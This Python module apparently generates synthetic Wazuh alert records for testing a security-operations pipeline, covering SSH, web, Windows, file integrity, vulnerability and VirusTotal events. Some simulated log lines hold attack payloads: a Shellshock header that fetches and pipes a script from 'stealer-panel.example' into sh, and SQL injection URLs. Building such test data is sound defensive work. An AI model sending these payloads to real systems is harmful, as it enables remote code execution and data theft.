"""Wazuh manager alerts (``alerts.json``) from the agents on a network's servers and
workstations: sshd, web access logs, file integrity, rootcheck, Windows logons,
vulnerability detection, VirusTotal and account changes."""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime

from socd.simulate.common import (
    DEPARTMENTS,
    SERVERS,
    SITES,
    USER_AGENTS,
    Event,
    Site,
    client_port,
    compact_offset,
    external_ip,
    internal_ip,
    sensor_clock,
)


@dataclass(frozen=True, slots=True)
class _Rule:
    """One Wazuh rule and the log it decodes."""

    id: str
    level: int
    description: str
    groups: tuple[str, ...]
    kind: str  # how the rest of the alert is built: see _details
    mitre: tuple[str, str, str] | None = None  # technique id, technique, tactic
    weight: float = 1.0


_BRUTE = ("T1110", "Brute Force", "Credential Access")
_GUESS = ("T1110.001", "Password Guessing", "Credential Access")
_EXPLOIT = ("T1190", "Exploit Public-Facing Application", "Initial Access")
_RULES: tuple[_Rule, ...] = (
    _Rule("5760", 5, "sshd: authentication failed.",
          ("syslog", "sshd", "authentication_failed"), "ssh", _GUESS, weight=8),
    _Rule("5710", 5, "sshd: Attempt to login using a non-existent user",
          ("syslog", "sshd", "authentication_failed", "invalid_login"), "ssh", _GUESS, weight=5),
    _Rule("5712", 10, "sshd: brute force trying to get access to the system. Non existent "
          "user.", ("syslog", "sshd", "authentication_failures"), "ssh", _BRUTE, weight=2),
    _Rule("5715", 3, "sshd: authentication success.",
          ("syslog", "sshd", "authentication_success"), "ssh", weight=4),
    _Rule("31103", 7, "SQL injection attempt.", ("web", "accesslog", "attack",
          "sql_injection"), "web", _EXPLOIT, weight=3),
    _Rule("31106", 12, "A web attack returned code 200 (success).",
          ("web", "accesslog", "attack"), "web", _EXPLOIT, weight=1),
    _Rule("31168", 15, "Shellshock attack detected", ("web", "accesslog", "attack"), "web",
          ("T1068", "Exploitation for Privilege Escalation", "Privilege Escalation"),
          weight=0.2),
    _Rule("31151", 10, "Multiple web server 400 error codes from same source ip.",
          ("web", "accesslog", "web_scan", "recon"), "web",
          ("T1595.002", "Vulnerability Scanning", "Reconnaissance"), weight=2),
    _Rule("550", 7, "Integrity checksum changed.", ("ossec", "syscheck",
          "syscheck_entry_modified", "syscheck_file"), "syscheck",
          ("T1565.001", "Stored Data Manipulation", "Impact"), weight=4),
    _Rule("554", 5, "File added to the system.", ("ossec", "syscheck", "syscheck_entry_added",
          "syscheck_file"), "syscheck", weight=3),
    _Rule("510", 7, "Host-based anomaly detection event (rootcheck).",
          ("ossec", "rootcheck"), "rootcheck", weight=1),
    _Rule("60122", 5, "Logon failure - Unknown user or bad password.",
          ("windows", "windows_security", "authentication_failed"), "windows", _GUESS,
          weight=6),
    _Rule("60204", 10, "Multiple Windows logon failures.",
          ("windows", "windows_security", "authentication_failures"), "windows", _BRUTE,
          weight=1.5),
    _Rule("23504", 7, "CVE affects an installed package (medium severity).",
          ("vulnerability-detector",), "vulnerability", weight=3),
    _Rule("23505", 10, "CVE affects an installed package (high severity).",
          ("vulnerability-detector",), "vulnerability", weight=2),
    _Rule("23506", 13, "CVE affects an installed package (critical severity).",
          ("vulnerability-detector",), "vulnerability", weight=1),
    _Rule("87105", 12, "VirusTotal: Alert - file flagged by antivirus engines.",
          ("virustotal",), "virustotal", ("T1204.002", "Malicious File", "Execution"),
          weight=1),
    _Rule("5902", 8, "New user added to the system.", ("syslog", "adduser"), "account",
          ("T1136.001", "Local Account", "Persistence"), weight=1),
    _Rule("5402", 3, "Successful sudo to ROOT executed.", ("syslog", "sudo"), "sudo",
          ("T1548.003", "Sudo and Sudo Caching", "Privilege Escalation"), weight=4),
    _Rule("591", 3, "Log file rotated.", ("ossec",), "ossec", weight=3),
    _Rule("533", 7, "Listened ports status (netstat) changed (new port opened or closed).",
          ("ossec",), "netstat", weight=1),
)
_USERS = ("root", "admin", "ubuntu", "oracle", "test", "postgres", "git", "deploy")
_CVES = (("CVE-2021-44228", "log4j", "2.14.1", "10.0"), ("CVE-2023-38545", "curl", "7.88.1",
         "9.8"), ("CVE-2024-6387", "openssh-server", "1:9.6p1-3ubuntu13", "8.1"),
         ("CVE-2023-4911", "libc6", "2.35-0ubuntu3.1", "7.8"),
         ("CVE-2022-0778", "openssl", "1.1.1f-1ubuntu2", "7.5"))
_FILES = ("/var/www/html/index.php", "/etc/passwd", "/etc/ssh/sshd_config", "/etc/crontab",
          "/usr/local/bin/backup.sh", "/var/www/html/uploads/img.php")
_COMPLIANCE = {"pci_dss": ["10.2.4", "10.2.5"], "gdpr": ["IV_35.7.d", "IV_32.2"],
               "hipaa": ["164.312.b"], "nist_800_53": ["AU.14", "AC.7"], "tsc": ["CC6.1"]}


def _syslog_time(now: datetime) -> str:
    """``Mar  2 08:00:00``: the time syslog writes, day padded with a space."""
    return f"{now:%b} {now.day:2d} {now:%H:%M:%S}"


def _details(rng: random.Random, rule: _Rule, site: Site, host: str, now: datetime) -> Event:
    """The decoder-dependent part of an alert: data, full_log, location, decoder."""
    stamp, attacker = _syslog_time(now), external_ip(rng)
    if rule.kind == "ssh":
        user, port = rng.choice(_USERS), client_port(rng)
        verb = "Accepted publickey" if rule.level == 3 else "Failed password"
        return {"data": {"srcip": attacker if rule.level > 3 else internal_ip(rng, site,
                                                                                 server=False),
                         "srcport": str(port), "dstuser": user},
                "full_log": f"{stamp} {host} sshd[{rng.randint(1000, 60000)}]: {verb} for "
                            f"{user} from {attacker} port {port} ssh2",
                "location": "/var/log/auth.log",
                "predecoder": {"program_name": "sshd", "timestamp": stamp, "hostname": host},
                "decoder": {"parent": "sshd", "name": "sshd"}}
    if rule.kind == "web":
        url = rng.choice(("/index.php?id=1'%20OR%20'1'='1", "/admin/config.php",
                          "/.env", "/dichvucong/tracuu?ma=1%20UNION%20SELECT%201"))
        agent = rng.choice(USER_AGENTS)
        if rule.id == "31168":  # the payload rides in a header bash copies into a variable
            url, agent = "/cgi-bin/status", "() { :; }; /bin/bash -c \"wget -qO- " \
                "http://stealer-panel.example/x.sh | sh\""
        code = "200" if rule.id in ("31106", "31168") else rng.choice(("400", "403", "404"))
        return {"data": {"protocol": "GET", "srcip": attacker, "id": code, "url": url},
                "full_log": f'{attacker} - - [{now.strftime("%d/%b/%Y:%H:%M:%S %z")}] "GET '
                            f'{url} HTTP/1.1" {code} {rng.randint(150, 9000)} "-" "{agent}"',
                "location": "/var/log/nginx/access.log", "decoder": {"name": "web-accesslog"}}
    if rule.kind == "windows":
        user = f"{rng.choice(DEPARTMENTS)}.{rng.choice(('nguyen', 'tran', 'le', 'pham'))}"
        source = internal_ip(rng, site, server=False)
        event_id = "4625"
        return {"data": {"srcip": source, "dstuser": user,
                         "win": {"system": {"eventID": event_id, "providerName":
                                            "Microsoft-Windows-Security-Auditing",
                                            "computer": f"{host}.{site.slug}.local"},
                                 "eventdata": {"targetUserName": user, "ipAddress": source,
                                               "logonType": "3", "status": "0xc000006d"}}},
                "location": "EventChannel", "decoder": {"name": "windows_eventchannel"}}
    if rule.kind == "vulnerability":
        cve, package, version, score = rng.choice(_CVES)
        severity = {"23504": "Medium", "23505": "High", "23506": "Critical"}[rule.id]
        return {"data": {"vulnerability": {
                    "cve": cve, "title": f"{cve} affects {package}", "severity": severity,
                    "package": {"name": package, "version": version,
                                "architecture": "amd64"},
                    "cvss": {"cvss3": {"base_score": score}}, "status": "Active",
                    "reference": f"https://vulnerabilities.example/{cve}"}},
                "location": "vulnerability-detector", "decoder": {"name": "json"}}
    path = rng.choice(_FILES)
    if rule.kind == "syscheck":
        return {"syscheck": {"path": path, "mode": "realtime",
                             "event": "modified" if rule.id == "550" else "added",
                             "size_after": str(rng.randint(100, 90000)),
                             "perm_after": "rw-r--r--", "uname_after": "root",
                             "md5_after": f"{rng.getrandbits(128):032x}",
                             "sha256_after": f"{rng.getrandbits(256):064x}"},
                "location": "syscheck", "decoder": {"name": "syscheck_integrity_changed"}}
    if rule.kind == "virustotal":
        engines = rng.randint(5, 60)
        return {"data": {"virustotal": {"found": "1", "malicious": "1", "positives":
                                        str(engines), "total": "72", "source": {
                                            "file": path, "sha1": f"{rng.getrandbits(160):040x}"}},
                         "integration": "virustotal"},
                "location": "virustotal", "decoder": {"name": "json"}}
    if rule.kind == "ossec":
        return {"full_log": f"ossec: File rotated (inode changed): '/var/log/"
                            f"{rng.choice(('nginx/access.log', 'auth.log', 'syslog'))}'.",
                "location": "wazuh-logcollector", "decoder": {"name": "ossec"}}
    if rule.kind == "netstat":
        port = rng.choice((4444, 8081, 31337, 5900))
        return {"previous_output": "ossec: output: 'netstat listening ports':\n"
                                   "tcp 0.0.0.0:22 0.0.0.0:* 1043/sshd",
                "full_log": "ossec: output: 'netstat listening ports':\ntcp 0.0.0.0:22 "
                            f"0.0.0.0:* 1043/sshd\ntcp 0.0.0.0:{port} 0.0.0.0:* "
                            f"{rng.randint(2000, 60000)}/{rng.choice(('nc', 'python3', 'x'))}",
                "location": "netstat listening ports", "decoder": {"name": "ossec"}}
    line = {"rootcheck": f"Trojaned version of file '{path}' detected.",
            "account": f"{stamp} {host} useradd[{rng.randint(1000, 60000)}]: new user: "
                       f"name={rng.choice(_USERS)}2, UID=1001, GID=1001",
            "sudo": f"{stamp} {host} sudo: {rng.choice(_USERS)} : TTY=pts/0 ; PWD=/home ; "
                    "USER=root ; COMMAND=/bin/bash"}[rule.kind]
    return {"data": {"title": line} if rule.kind == "rootcheck" else {},
            "full_log": line, "location": "rootcheck" if rule.kind == "rootcheck"
            else "/var/log/auth.log", "decoder": {"name": rule.kind}}


def wazuh_events(
    rng: random.Random, *, start: datetime, rate_hint: float = 1.0
) -> Iterator[Event]:
    """``alerts.json`` records, forever, deterministic for a given ``rng``: ``rule.level``
    3-13, agents on each network's servers and workstations, one manager per network, and
    ``id`` as the manager writes it (epoch seconds and a position). ``timestamp`` is local
    time with milliseconds and the offset written ``+0700``."""
    clock = sensor_clock(rng, start, rate_hint)
    position = rng.randint(10**6, 10**8)
    fired: dict[tuple[str, str], int] = {}
    while True:
        now = next(clock)
        site = rng.choice(SITES)
        rule = rng.choices(_RULES, weights=[r.weight for r in _RULES])[0]
        windows = rule.kind == "windows"
        number = rng.randint(1, 40)
        host = (f"pc-{rng.choice(DEPARTMENTS)}-{number % 12 + 1:02d}" if windows
                else SERVERS[number % len(SERVERS)])
        agent = {"id": f"{number:03d}", "name": host,
                 "ip": f"10.{site.octet}.{1 if windows else 10}.{10 + number}"}
        fired[(site.code, rule.id)] = fired.get((site.code, rule.id), 0) + 1
        rule_doc: Event = {"level": rule.level, "description": rule.description,
                           "id": rule.id, "firedtimes": fired[(site.code, rule.id)],
                           "mail": rule.level >= 12, "groups": list(rule.groups)}
        if rule.mitre:
            technique_id, technique, tactic = rule.mitre
            rule_doc["mitre"] = {"id": [technique_id], "technique": [technique],
                                 "tactic": [tactic]}
        for key in rng.sample(sorted(_COMPLIANCE), k=rng.randint(0, 3)):
            rule_doc[key] = _COMPLIANCE[key]
        manager = f"wazuh-{site.code}"
        position += rng.randint(400, 4000)
        yield {"timestamp": compact_offset(now, "milliseconds"), "rule": rule_doc,
               "agent": agent, "manager": {"name": manager},
               "cluster": {"name": f"soc-{site.code}", "node": manager},
               "id": f"{int(now.timestamp())}.{position}",
               **_details(rng, rule, site, host, now)}


def wazuh_id_key(alert: Event) -> bytes | None:
    """A Wazuh alert's Kafka key: its ``id``."""
    alert_id = alert.get("id")
    return str(alert_id).encode() if alert_id is not None else None
